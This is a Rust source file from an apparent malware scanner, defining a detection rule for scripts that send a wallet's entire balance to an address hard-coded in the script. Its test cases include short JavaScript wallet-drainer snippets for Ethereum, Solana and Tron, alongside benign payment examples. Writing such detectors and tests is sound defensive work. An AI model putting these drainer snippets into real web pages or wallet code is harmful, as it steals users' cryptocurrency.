//! `balance-moved-to-held-account`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "balance-moved-to-held-account",
    description: "The script sends the wallet's whole balance to an account it contains.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::HeldPayee]),
        one(&[Atom::WholeAmount]),
        one(&[Atom::WalletObject, Atom::WalletCall, Atom::TransferCall]),
    ],
    within: 240,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"const receiver='0x1111111111111111111111111111111111111111';async function go(){const t=new ethers.Contract(USDT,abi,signer);const b=await t.balanceOf(me);await t.transfer(receiver,b)}"#,
            r#"const receiver='0x1111111111111111111111111111111111111111';async function go(){const balance=await provider.getBalance(me);await signer.sendTransaction({to:receiver,value:balance.mul(95).div(100)})}"#,
            r#"const p=solana;const d=new solanaWeb3.PublicKey('So1anaExamp1eAddressForTestsNotRea1Acc9unt99');const b=await c.getBalance(p.publicKey);tx.add(solanaWeb3.SystemProgram.transfer({fromPubkey:p.publicKey,toPubkey:d,lamports:b-5000}))"#,
            r#"const to='0x1111111111111111111111111111111111111111';provider.getBalance(me).then(function(all){signer.sendTransaction({to:to,value:all.sub(fee)})})"#,
            r#"const m={to:'TXZYopYRdj2D9XRtbG411XZZ3kM5VkAeBf'};const b=await tronWeb.trx.getBalance(me);await tronWeb.trx.sendTransaction(m.to,b-1)"#,
        ],
        without: &[
            r#"provider.getBalance(me).then(all=>{out.textContent=all});pay.onclick=()=>signer.sendTransaction({to:'0x1111111111111111111111111111111111111111',value:amount.value})"#,
            r#"connect.onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});out.textContent=a}"#,
            r#"const ROUTER='0x1111111111111111111111111111111111111111';async function sell(){const t=new ethers.Contract(TOKEN,abi,signer);await t.approve(ROUTER,ethers.utils.parseUnits(amount.value,18));const r=new ethers.Contract(ROUTER,rabi,signer);await r.swapExactTokensForETH(ethers.utils.parseUnits(amount.value,18),0,path,me,end)}"#,
            r#"donate.onclick=()=>ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x1111111111111111111111111111111111111111',value:amount.value}]})"#,
            r#"async function sendMax(){const token=new ethers.Contract('0x1111111111111111111111111111111111111111',abi,signer);const balance=await token.balanceOf(me);await token.transfer(to.value,balance)}"#,
        ],
    },
};
